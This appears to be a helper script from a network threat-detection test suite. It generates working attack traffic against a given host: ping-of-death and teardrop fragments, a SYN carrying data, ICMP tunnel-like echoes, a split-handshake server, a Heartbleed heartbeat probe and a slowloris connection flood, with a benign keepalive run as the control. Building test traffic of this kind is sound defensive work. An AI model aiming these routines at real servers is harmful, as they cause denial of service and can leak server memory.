#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Traffic of the threat tests that no ordinary client sends.

Run inside a test namespace, bounded by the caller's timeout:

    threat_traffic.py ping-of-death DST          ICMP echo in fragments past 65535
    threat_traffic.py teardrop DST PORT          UDP, second fragment inside the first
    threat_traffic.py syn-data DST PORT          a SYN that carries a request
    threat_traffic.py icmp-tunnel DST N SIZE S   N echoes of SIZE random bytes, S apart
    threat_traffic.py split-server IFACE ADDR PORT SECONDS
                                                 answers a SYN to ADDR:PORT with a SYN
    threat_traffic.py heartbleed DST PORT        TLS 1.2 hello, then a heartbeat whose
                                                 payload length (0x4000) exceeds its record
    threat_traffic.py slowloris DST PORT N SECONDS EVERY
                                                 N connections that never end their headers,
                                                 a header line each EVERY s, SECONDS long
    threat_traffic.py keepalive DST PORT N IDLE  N connections, two whole requests each,
                                                 IDLE s apart (not a threat)

The packet-level ones use scapy (python3-scapy); heartbleed, slowloris and
keepalive use plain sockets.  Each prints one line saying what it sent.
"""
import os
import random
import socket
import struct
import sys
import time


def scapy():
    import scapy.all as s
    s.conf.verb = 0
    return s


def ping_of_death(dst):
    s = scapy()
    # 8 + 65528 bytes of ICMP: the last fragment ends at byte 65536 of the
    # datagram, which with its header would be 65556 bytes long
    pkt = s.IP(dst=dst, id=random.randint(1, 65535)) / s.ICMP(id=0x5044, seq=1) / (b"X" * 65528)
    frags = s.fragment(pkt, fragsize=1480)
    last = frags[-1]
    end = last.frag * 8 + len(last.payload)
    assert end > 65535, end
    s.send(frags)
    print(f"ping-of-death: {len(frags)} fragments to {dst}, last ends at byte {end}")


def teardrop(dst, port):
    s = scapy()
    sport = random.randint(20000, 60000)
    for i in range(3):
        ident = random.randint(1, 65535)
        # first fragment: bytes 0..36 (UDP header, 28 bytes), more to come
        udp = bytes(s.UDP(sport=sport, dport=port, len=8 + 28, chksum=0)) + b"A" * 28
        f1 = s.IP(dst=dst, id=ident, flags="MF", frag=0, proto=17) / s.Raw(udp)
        # last fragment: bytes 24..28, inside the first one
        f2 = s.IP(dst=dst, id=ident, frag=3, proto=17) / s.Raw(b"B" * 4)
        s.send([f1, f2])
        time.sleep(0.05)
    print(f"teardrop: 3 pairs of overlapping UDP fragments to {dst}:{port}")


def syn_data(dst, port):
    s = scapy()
    sport = random.randint(20000, 60000)
    req = b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"
    syn = (s.IP(dst=dst) /
           s.TCP(sport=sport, dport=port, flags="S", seq=random.randint(0, 2**32 - 1),
                 window=64240, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]) /
           s.Raw(req))
    s.send(syn)
    print(f"syn-data: SYN with {len(req)} bytes to {dst}:{port} from port {sport}")


def icmp_tunnel(dst, n, size, gap):
    s = scapy()
    ident = random.randint(1, 65535)
    for i in range(n):
        s.send(s.IP(dst=dst) / s.ICMP(id=ident, seq=i + 1) / s.Raw(os.urandom(size)))
        time.sleep(gap)
    print(f"icmp-tunnel: {n} echo requests of {size} random bytes to {dst}")


def split_server(iface, addr, port, seconds):
    """Answer SYN to ADDR:PORT with a SYN of our own (no ACK): the client's
    kernel takes it for a simultaneous open and answers SYN-ACK, which is
    ACKed; then one HTTP answer and a FIN.  ADDR is an address no kernel
    here owns (the client reaches it through a static neighbour entry)."""
    s = scapy()
    mac = s.get_if_hwaddr(iface)
    isn = random.randint(0, 2**32 - 1)
    state = {}

    def reply(p, flags, seq, ack, data=b""):
        e = s.Ether(src=mac, dst=p[s.Ether].src)
        i = s.IP(src=addr, dst=p[s.IP].src)
        t = s.TCP(sport=port, dport=p[s.TCP].sport, flags=flags, seq=seq, ack=ack, window=64240)
        s.sendp(e / i / t / data if data else e / i / t, iface=iface)

    def on(p):
        if s.IP not in p or s.TCP not in p or p[s.IP].dst != addr or p[s.TCP].dport != port:
            return
        t = p[s.TCP]
        f = str(t.flags)
        key = (p[s.IP].src, t.sport)
        if f == "S":
            state[key] = t.seq + 1
            reply(p, "S", isn, 0)
        elif "S" in f and "A" in f:
            reply(p, "A", isn + 1, t.seq + 1)
        elif len(t.payload) and key in state:
            data = b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n"
            ack = t.seq + len(t.payload)
            reply(p, "A", isn + 1, ack)
            reply(p, "FA", isn + 1, ack, data)
        elif "F" in f and key in state:
            reply(p, "A", t.ack, t.seq + 1)

    started = []
    sn = s.AsyncSniffer(iface=iface, filter=f"tcp and dst host {addr} and dst port {port}",
                        prn=on, store=False, started_callback=lambda: started.append(1))
    sn.start()
    while not started:
        time.sleep(0.01)
    print("ready", flush=True)
    time.sleep(seconds)
    sn.stop()
    print(f"split-server: answered {len(state)} SYN(s) with a SYN", flush=True)


def tls_records(sock, until):
    """Handshake messages of the server's records until one of type UNTIL."""
    buf, hs = b"", b""
    end = time.time() + 5
    while time.time() < end:
        chunk = sock.recv(65536)
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 5:
            ctype, _, rlen = struct.unpack(">BHH", buf[:5])
            if len(buf) < 5 + rlen:
                break
            body, buf = buf[5:5 + rlen], buf[5 + rlen:]
            if ctype == 21:
                raise SystemExit(f"heartbleed: the server sent an alert: {body.hex()}")
            if ctype != 22:
                continue
            hs += body
            while len(hs) >= 4:
                mtype = hs[0]
                mlen = int.from_bytes(hs[1:4], "big")
                if len(hs) < 4 + mlen:
                    break
                hs = hs[4 + mlen:]
                if mtype == until:
                    return True
    return False


def ext(etype, body):
    return struct.pack(">HH", etype, len(body)) + body


def client_hello():
    suites = [0xc02b, 0xc02f, 0xc02c, 0xc030, 0xc009, 0xc013, 0x009c, 0x002f]
    exts = (ext(0x000a, struct.pack(">HHH", 4, 0x0017, 0x001d)) +      # groups P-256, x25519
            ext(0x000b, b"\x01\x00") +                                 # point formats
            ext(0x000d, struct.pack(">HHHH", 6, 0x0403, 0x0804, 0x0401)) +  # signature algs
            ext(0x000f, b"\x01"))                                      # heartbeat, peer allowed
    body = (b"\x03\x03" + os.urandom(32) + b"\x00" +
            struct.pack(">H", 2 * len(suites)) + b"".join(struct.pack(">H", c) for c in suites) +
            b"\x01\x00" + struct.pack(">H", len(exts)) + exts)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def heartbleed(dst, port):
    with socket.create_connection((dst, port), timeout=5) as c:
        c.sendall(client_hello())
        if not tls_records(c, 14):
            raise SystemExit("heartbleed: no ServerHelloDone from the server")
        # type 24 (heartbeat), version 0x0302, 3 bytes: request, length 0x4000
        c.sendall(b"\x18\x03\x02\x00\x03\x01\x40\x00")
        c.settimeout(1)
        try:
            got = c.recv(65536)
        except (socket.timeout, ConnectionResetError):
            got = b""
    print(f"heartbleed: heartbeat of 3 bytes claiming 16384 sent to {dst}:{port}; "
          f"the server answered {len(got)} bytes")


def slowloris(dst, port, n, seconds, every):
    """n connections, each a request line and headers that never end: one
    more header line on each every `every` seconds, all closed `seconds`
    after the first connection opened."""
    socks = []
    end = time.monotonic() + seconds
    for i in range(n):
        c = socket.create_connection((dst, port), timeout=5)
        c.sendall(b"GET /?%d HTTP/1.1\r\nHost: a.example\r\nUser-Agent: slow\r\n" % i)
        socks.append(c)
    k = 0
    while time.monotonic() + every <= end:
        time.sleep(every)
        for c in socks:
            c.sendall(b"X-%d: %d\r\n" % (k, k))
        k += 1
    time.sleep(max(0.0, end - time.monotonic()))
    for c in socks:
        c.close()
    print(f"slowloris: {n} connections to {dst}:{port} held {seconds} s, a header line every "
          f"{every} s, headers never ended")


def read_answer(c):
    """One whole HTTP/1.1 200 answer with a Content-Length."""
    buf = b""
    while b"\r\n\r\n" not in buf:
        more = c.recv(65536)
        if not more:
            raise SystemExit("keepalive: the server closed the connection")
        buf += more
    head, body = buf.split(b"\r\n\r\n", 1)
    if not head.startswith(b"HTTP/1.1 200"):
        raise SystemExit("keepalive: no 200 answer: %r" % head[:40])
    length = [int(l.split(b":")[1]) for l in head.split(b"\r\n")
              if l.lower().startswith(b"content-length:")]
    if not length:
        raise SystemExit("keepalive: an answer without Content-Length")
    while len(body) < length[0]:
        more = c.recv(65536)
        if not more:
            raise SystemExit("keepalive: the answer was cut")
        body += more


def keepalive(dst, port, n, idle):
    """n keep-alive connections, each a whole request, idle `idle` seconds,
    then another request: ordinary clients between requests."""
    socks = []
    req = b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"
    for _ in range(2):
        if not socks:
            socks = [socket.create_connection((dst, port), timeout=5) for _ in range(n)]
        else:
            time.sleep(idle)
        for c in socks:
            c.sendall(req)
        for c in socks:
            read_answer(c)
    for c in socks:
        c.close()
    print(f"keepalive: {n} connections to {dst}:{port}, two requests each, {idle} s apart")


def main(a):
    cmds = {
        "ping-of-death": (ping_of_death, [str]),
        "teardrop": (teardrop, [str, int]),
        "syn-data": (syn_data, [str, int]),
        "icmp-tunnel": (icmp_tunnel, [str, int, int, float]),
        "split-server": (split_server, [str, str, int, float]),
        "heartbleed": (heartbleed, [str, int]),
        "slowloris": (slowloris, [str, int, int, float, float]),
        "keepalive": (keepalive, [str, int, int, float]),
    }
    if not a or a[0] not in cmds or len(a) - 1 != len(cmds[a[0]][1]):
        raise SystemExit(__doc__)
    fn, types = cmds[a[0]]
    fn(*[t(v) for t, v in zip(types, a[1:])])


if __name__ == "__main__":
    main(sys.argv[1:])
